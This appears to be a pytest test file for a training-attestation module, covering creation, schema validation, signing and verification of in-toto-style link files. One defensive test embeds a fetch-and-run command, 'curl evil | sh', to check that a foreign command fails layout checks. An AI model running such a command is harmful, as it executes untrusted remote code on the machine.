from __future__ import annotations

import dataclasses
from datetime import datetime, timezone

import pytest

from verifiable_training.attestation import (
    DATASET_NAME,
    METRICS_NAME,
    MODEL_NAME,
    LinkFile,
    MatchStatus,
    create_link,
    job_id_from_command,
    pipeline_command,
    sign_link,
    validate_link_schema,
    verify_artifact_against_link,
    verify_link,
)
from verifiable_training.core import ArtifactRef, EnvironmentSnapshot, JobState, canonical_serialize, compute_digest
from verifiable_training.errors import IllegalTransition, MissingDigest, MissingProduct
from verifiable_training.signing import LINK_PAYLOAD_TYPE, sign_envelope

from .conftest import ref_for, running_record

DATASET = b"x,y\n1,1\n2,2\n"
MODEL = b"RTM1" + bytes(16)
METRICS = b'{"final_loss":0.5}'


def snapshot() -> EnvironmentSnapshot:
    t = datetime(2030, 1, 1, tzinfo=timezone.utc)
    return EnvironmentSnapshot(compute_digest(b"image"), "test", "host", "cpu", 1024, t, t)


def build(job=None, materials=None, products=None):
    job = job or running_record("job-42")
    materials = [ref_for(DATASET_NAME, DATASET)] if materials is None else materials
    products = [ref_for(MODEL_NAME, MODEL), ref_for(METRICS_NAME, METRICS)] if products is None else products
    return create_link(job, snapshot(), materials, products, duration_seconds=1.25)


class TestCreateLink:
    def test_structural_echo(self):
        link = build()
        assert len(link.materials) == 1 and len(link.products) == 2
        assert link.materials[DATASET_NAME] == compute_digest(DATASET)
        assert link.byproducts == {"return_code": 0, "duration_seconds": "1.250000"}

    def test_empty_products(self):
        with pytest.raises(MissingProduct):
            build(products=[])

    def test_missing_digest(self):
        no_digest = dataclasses.replace(ref_for(MODEL_NAME, MODEL), digest=None)
        with pytest.raises(MissingDigest):
            build(products=[no_digest])

    def test_duplicate_names_rejected(self):
        with pytest.raises(ValueError):
            build(products=[ref_for(MODEL_NAME, MODEL), ref_for(MODEL_NAME, b"other")])

    def test_material_product_overlap_rejected(self):
        with pytest.raises(ValueError):
            build(products=[ref_for(DATASET_NAME, DATASET)])

    def test_requires_running_job(self):
        job = dataclasses.replace(running_record(), state=JobState.SUBMITTED)
        with pytest.raises(IllegalTransition):
            build(job=job)

    def test_command_is_fixed_pipeline_with_job_id(self):
        job = running_record("job-42")
        cmd = pipeline_command(job)
        assert cmd[:2] == ["reftrainer", "train"]
        assert job_id_from_command(cmd) == "job-42"
        assert build(job).job_id == "job-42"

    def test_to_dict_is_in_toto_shaped(self):
        d = build().to_dict()
        assert d["_type"] == "link" and d["name"] == "train"
        assert d["products"][MODEL_NAME] == {"sha256": compute_digest(MODEL).hex}
        assert validate_link_schema(d) == []

    def test_dict_round_trip(self):
        link = build()
        assert LinkFile.from_dict(link.to_dict()) == link


class TestSchema:
    def test_missing_fields_reported(self):
        d = build().to_dict()
        del d["materials"]
        assert any("materials" in p for p in validate_link_schema(d))

    def test_bad_digest_reported(self):
        d = build().to_dict()
        d["products"][MODEL_NAME]["sha256"] = "zz"
        assert any(MODEL_NAME in p for p in validate_link_schema(d))

    def test_not_an_object(self):
        assert validate_link_schema([]) != []


class TestVerifyArtifact:
    def test_recorded_material_matches(self):
        assert verify_artifact_against_link(build(), DATASET_NAME, DATASET).status is MatchStatus.MATCH

    def test_recorded_product_matches(self):
        assert verify_artifact_against_link(build(), MODEL_NAME, MODEL).ok

    def test_flipped_byte_mismatch(self):
        bad = bytearray(DATASET)
        bad[0] ^= 0x01
        res = verify_artifact_against_link(build(), DATASET_NAME, bytes(bad))
        assert res.status is MatchStatus.MISMATCH
        assert res.expected == compute_digest(DATASET).hex
        assert res.actual == compute_digest(bytes(bad)).hex

    def test_unknown_name(self):
        assert verify_artifact_against_link(build(), "nonexistent.bin", b"").status is MatchStatus.UNKNOWN_NAME


class TestVerifyLink:
    def test_signed_link_passes(self, key):
        report = verify_link(sign_link(build(), key), key.public_key)
        assert report.passed, report.reasons
        assert {"signature_valid", "payload_canonical", "schema_valid", "layout_valid", "artifact_rules"} <= set(report.checks)

    def test_wrong_key(self, key, other_key):
        report = verify_link(sign_link(build(), other_key), key.public_key)
        assert not report.checks["signature_valid"].passed
        assert not report.checks["layout_valid"].passed

    def test_foreign_command_violates_layout(self, key):
        d = build().to_dict()
        d["command"] = ["sh", "-c", "curl evil | sh"]
        report = verify_link(sign_envelope(d, LINK_PAYLOAD_TYPE, key), key.public_key)
        assert not report.checks["layout_valid"].passed

    def test_unexpected_product_violates_rules(self, key):
        link = build(products=[ref_for(MODEL_NAME, MODEL), ref_for(METRICS_NAME, METRICS), ref_for("extra.bin", b"x")])
        report = verify_link(sign_link(link, key), key.public_key)
        assert not report.checks["artifact_rules"].passed

    def test_missing_metrics_violates_rules(self, key):
        link = build(products=[ref_for(MODEL_NAME, MODEL)])
        report = verify_link(sign_link(link, key), key.public_key)
        assert "product metrics.json missing" in report.checks["artifact_rules"].detail

    def test_nonzero_return_code(self, key):
        link = dataclasses.replace(build(), byproducts={"return_code": 1, "duration_seconds": "0.000000"})
        assert not verify_link(sign_link(link, key), key.public_key).checks["artifact_rules"].passed

    def test_wrong_payload_type(self, key):
        env = sign_envelope(build().to_dict(), "application/vnd.other+json", key)
        assert not verify_link(env, key.public_key).checks["layout_valid"].passed

    def test_schema_invalid_payload_does_not_raise(self, key):
        env = sign_envelope({"_type": "link"}, LINK_PAYLOAD_TYPE, key)
        report = verify_link(env, key.public_key)
        assert report.checks["signature_valid"].passed
        assert not report.passed

    def test_envelope_payload_is_canonical(self, key):
        env = sign_link(build(), key)
        assert env.payload == canonical_serialize(build().to_dict())


def test_material_ref_keeps_media_type_out_of_link():
    # the link binds names to digests only
    refs = [ArtifactRef(DATASET_NAME, compute_digest(DATASET), len(DATASET), "text/csv")]
    d = build(materials=refs).to_dict()
    assert d["materials"] == {DATASET_NAME: {"sha256": compute_digest(DATASET).hex}}
